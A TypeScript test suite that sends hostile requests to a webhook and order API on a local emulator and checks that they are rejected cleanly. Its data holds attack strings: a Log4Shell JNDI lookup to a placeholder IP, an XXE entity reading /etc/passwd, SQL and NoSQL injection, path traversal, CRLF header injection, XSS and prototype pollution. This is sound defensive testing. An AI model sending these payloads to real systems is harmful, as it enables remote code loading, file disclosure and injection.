import { request as httpRequest, type IncomingMessage } from 'node:http';
import { gzipSync } from 'node:zlib';
import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { describe, expect, inject, test } from 'vitest';
import { EMULATOR_CREDENTIALS } from '../../clients/local-stack.ts';
import { createOrdersFetch } from '../../examples/checkout/track-order.ts';
import { dynamoDbTable } from '../../lambdas/adapters/dynamodb-table.ts';
import { quarantine } from '../../lambdas/adapters/quarantine-store.ts';
import { toInstant } from '../../lambdas/domain/time.ts';
import { clientConfiguration } from '../../local/local-aws.ts';
import { webhookBody } from '../domain/fixtures.ts';
import { checkAnswer } from './contract-checks.ts';
import { useStack } from './stack-fixture.ts';
import { basicAuthorization } from './webhooks.ts';

const stack = useStack();
const { endpoint, region, outputs, webhookCredentials } = inject('localStack');
const table = dynamoDbTable(outputs.TableName, new DynamoDBClient(clientConfiguration(endpoint)));
const { username, password } = webhookCredentials;
const authorization = basicAuthorization(webhookCredentials);

interface Answer {
  readonly status: number;
  readonly body: string;
  readonly seconds: number;
}

/** Sends requests that `fetch` would not send. */
const send = (
  url: URL,
  path: string,
  method: string,
  headers: Record<string, string | string[]>,
  body?: string | Buffer,
): Promise<Answer> => {
  const startedAt = performance.now();
  const answered = new Promise<Answer>((resolve, reject) => {
    const { hostname, port } = url;
    const outgoing = httpRequest({ hostname, port, path, method, headers }, (response: IncomingMessage) => {
      const chunks: Buffer[] = [];
      response.on('data', (chunk) => chunks.push(chunk));
      response.on('end', () =>
        resolve({
          status: response.statusCode ?? 0,
          body: Buffer.concat(chunks).toString(),
          seconds: (performance.now() - startedAt) / 1000,
        }),
      );
    });
    outgoing.on('error', reject);
    outgoing.end(body);
  });
  return answered.then((answer) => {
    checkAnswer({ ...answer, method, url: `${url.origin}${path}` });
    return answer;
  });
};

const orderUuid = crypto.randomUUID();
const itemUuid = crypto.randomUUID();
const GOOD = { ...webhookBody('OK', '1', itemUuid), order_uuid: orderUuid };
const good = JSON.stringify(GOOD);
const withField = (field: keyof typeof GOOD, value: unknown): string =>
  JSON.stringify({ ...GOOD, [field]: value });

const BODIES: readonly (string | Buffer)[] = [
  '',
  ' ',
  '{',
  '{}',
  '[]',
  'null',
  'true',
  '0',
  'NaN',
  '"text"',
  '\u0000',
  '\ufeff{}',
  Buffer.from([0xff, 0xfe, 0x00, 0x80, 0xc3, 0x28]),
  gzipSync(good),
  '['.repeat(30_000),
  `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`,
  `{"__proto__":${good}}`,
  `{"constructor":{"prototype":{"isAdmin":true}}}`,
  `[${good}]`,
  JSON.stringify(good),
  `${good}${good}`,
  good.replaceAll('"', "'"),
  good.replace('"1"', '1e999'),
  withField('order_uuid', `${orderUuid}' OR '1'='1`),
  withField('order_uuid', '../../etc/passwd'),
  withField('order_item_status', ''),
  withField('order_item_version', '9'.repeat(5000)),
  withField('order_item_version', -1),
  withField('order_item_version', { $gt: '' }),
  withField('order_created', `2026-03-01T10:00:00.${'1'.repeat(50_000)}`),
  withField('order_id', ['1']),
  withField('order_item_uuid', null),
  withField('order_item_uuid', `${itemUuid}#22#OK`),
  'order_uuid=1&order_item_uuid=2',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  'x'.repeat(64 * 1024 + 1),
  'x'.repeat(1024 * 1024),
];

/** Statuses that Musement does not document. They mean that the item is open. */
const STATUSES: readonly string[] = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what an attacker sends
  '${jndi:ldap://192.0.2.1/a}',
  'OK\r\nSet-Cookie: a=b',
  '<script>alert(1)</script>',
  'A'.repeat(60_000),
];

const AUTHORIZATIONS: readonly string[] = [
  '',
  'Basic',
  'Basic ',
  'Basic :',
  'Basic Og==',
  'Basic ====',
  'Basic !!!!',
  `Basic ${btoa(username)}`,
  `Basic ${btoa(`${username}:`)}`,
  `Basic ${btoa(`:${password}`)}`,
  `Basic ${btoa(`${username}:${password} `)}`,
  `Basic ${btoa(`${username}:${password.toLowerCase()}x`)}`,
  `Basic ${btoa(`${username}\u0000:${password}`)}`,
  `Basic ${btoa('a'.repeat(6000))}`,
  `Basic ${authorization}`,
  `${authorization}, ${authorization}`,
  `Bearer ${btoa(`${username}:${password}`)}`,
  `Digest username="${username}"`,
  'AWS4-HMAC-SHA256 Credential=test/20260301/eu-west-1/execute-api/aws4_request, SignedHeaders=host, Signature=0',
  `${username}:${password}`,
];

/** None of them carries credentials. */
const HEADERS: readonly (readonly [name: string, value: string | string[]])[] = [
  ['authorization', ['Basic Og==', authorization]],
  ['authorization', [`Basic ${btoa('a:b')}`, 'Bearer x']],
  ['x-forwarded-for', '127.0.0.1'],
  ['x-amzn-trace-id', `Root=${'1'.repeat(4000)}`],
  ['x-original-url', '/orders'],
  ['x-http-method-override', 'PUT'],
  ['__proto__', authorization],
  ['constructor', authorization],
  ['proxy-authorization', authorization],
  ['cookie', `authorization=${authorization}`],
  ['content-type', ['application/json', 'text/plain']],
  ['content-encoding', 'gzip'],
  ['x-long', 'x'.repeat(6000)],
  ['x-latin', '\u00e9\u00ff'],
];

/** Malformed bodies of track requests. */
const TRACK_BODIES: readonly string[] = [
  '{"reference":"\\ud800"}',
  '{"reference":"\\u0000"}',
  '{"reference":"\\u001b[31m"}',
  '{"reference":1e999}',
  '{"reference":{"$ne":1}}',
  '{"paidAt":"-271821-04-20T00:00:00Z"}',
  '{"paidAt":"+275760-09-13T00:00:00Z"}',
  '{"paidAt":"2026-03-01T10:00:00+99:99"}',
  '{"paidAt":1772359200}',
  '{"__proto__":{"reference":"B-4711"}}',
  '{"orderUuid":"11045e18-e3ca-42e1-acb4-0d5be75036fd"}',
  `{"${'x'.repeat(60_000)}":1}`,
];

const webhook = new URL(outputs.WebhookUrl);
const post = (headers: Record<string, string>, body: string | Buffer): Promise<Answer> =>
  send(webhook, webhook.pathname, 'POST', { 'content-type': 'application/json', ...headers }, body);

/** Asserts that a request was rejected with one of these statuses, quickly and without internal details. */
const expectRejection = ({ status, body, seconds }: Answer, ...statuses: number[]): void => {
  expect(statuses).toContain(status);
  expect(body.length).toBeLessThan(2000);
  expect(seconds).toBeLessThan(5);
  expect(body).not.toMatch(/ at .*\.(ts|mjs|js):\d+|node_modules|arn:aws|DynamoDB/);
};

const expectNothingStored = async (): Promise<void> =>
  expect((await stack.orders.read(orderUuid)).status).toBe(404);

/** Only the size of a body that is too long is kept. */
const sizeOf = (bytes: number): string => `${bytes} bytes`;

/** How many of these bodies are in quarantine. Other tests put other bodies there. */
const quarantined = async (): Promise<number> => {
  const texts = new Set(
    [...BODIES, good].flatMap((body) => [
      `${body}`,
      Buffer.from(body).toString('base64'),
      sizeOf(Buffer.byteLength(body)),
    ]),
  );
  const webhooks = await quarantine(table).list(toInstant(Date.now()));
  return webhooks.filter(({ body, bodyBytes = 0 }) => texts.has(body ?? sizeOf(bodyBytes))).length;
};

describe('hostile requests', () => {
  test('I1 no body is stored without credentials, and every answer is the same', async () => {
    const before = await quarantined();
    const reasons = new Set<string>();
    for (const body of [...BODIES, good]) {
      const answer = await post({}, body);
      expectRejection(answer, 401);
      reasons.add(answer.body);
    }
    expect(reasons.size).toBe(1);
    await expectNothingStored();
    expect(await quarantined()).toBe(before);
  });

  test('I1 no wrong credentials get a good webhook stored', async () => {
    const before = await quarantined();
    for (const guess of AUTHORIZATIONS) {
      expectRejection(await post({ authorization: guess }, good), 401);
      expectRejection(await post({ authorization: guess }, '{'), 401);
    }
    await expectNothingStored();
    expect(await quarantined()).toBe(before);
  });

  test('I6, I10 every malformed body is kept in quarantine, none is stored as a webhook or answered with 5xx', async () => {
    const before = await quarantined();
    for (const body of BODIES) expectRejection(await post({ authorization }, body), 400, 413);
    await expectNothingStored();
    expect(await quarantined()).toBe(before + BODIES.length);
  });

  test('an undocumented status is stored as text of at most 64 printable characters', async () => {
    const order = crypto.randomUUID();
    for (const status of STATUSES) {
      const body = withField('order_item_status', status).replace(orderUuid, order);
      expect((await post({ authorization }, body)).status).toBe(200);
    }
    const { timeline } = (await (await stack.orders.read(order)).json()) as {
      timeline: Record<string, string>[];
    };
    const stored = timeline.filter(({ kind }) => kind === 'webhook').map(({ status }) => status);
    expect(stored).toHaveLength(STATUSES.length);
    for (const status of stored) expect(status).toMatch(/^[^\p{C}]{1,64}$/u);
  });

  test('I1 no repeated, huge or strangely named header lets a webhook in', async () => {
    const before = await quarantined();
    for (const [name, value] of HEADERS) {
      const answer = await send(
        webhook,
        webhook.pathname,
        'POST',
        { 'content-type': 'application/json', [name]: value },
        good,
      );
      expectRejection(answer, 401);
    }
    await expectNothingStored();
    expect(await quarantined()).toBe(before);
  });

  test('no malformed track request is stored or answered with 5xx', async () => {
    const wanted = crypto.randomUUID();
    const url = `${outputs.OrdersUrl}/${wanted}`;
    const ordersFetch = createOrdersFetch(region, { credentials: EMULATOR_CREDENTIALS });
    for (const body of [...BODIES, ...TRACK_BODIES]) {
      // An empty body and an empty object are good track requests.
      if (typeof body !== 'string' || ['', '{}'].includes(body.trim())) continue;
      const response = await ordersFetch(url, { method: 'PUT', body });
      expect([400, 413]).toContain(response.status);
      expect((await response.text()).length).toBeLessThan(2000);
    }
    expect((await stack.orders.read(wanted)).status).toBe(404);
  });

  test.for(['GET', 'PUT', 'DELETE', 'PATCH', 'HEAD'])(
    'I9 method %s is rejected at the webhook’s address',
    async (method) => {
      const headers = { authorization, 'content-type': 'application/json' };
      expectRejection(await send(webhook, webhook.pathname, method, headers), 403, 404, 405);
      await expectNothingStored();
    },
  );

  test.for(['/', '/Webhooks', '/webhooks/more', '/webhook', '/orders', '/.env', '/orders/../webhooks/x'])(
    'I9 path %s does not exist',
    async (path) => {
      const base = webhook.pathname.replace(/\/webhooks$/, '');
      const headers = { authorization, 'content-type': 'application/json' };
      expectRejection(await send(webhook, `${base}${path}`, 'POST', headers, good), 403, 404, 405);
      await expectNothingStored();
    },
  );

  test.for([
    ['an empty name', ''],
    ['a null byte', '%00'],
    ['another folder', '..%2f..'],
    ['a query', "1'%20OR%20'1'='1"],
    ['a header', `${orderUuid}%0d%0aX:1`],
    ['4,000 letters', 'x'.repeat(4000)],
  ])('an order named by %s is rejected', async ([, name = '']) => {
    const response = await stack.orders.read(name);
    expect([400, 403, 404, 414]).toContain(response.status);
    expect((await response.text()).length).toBeLessThan(2000);
  });
});
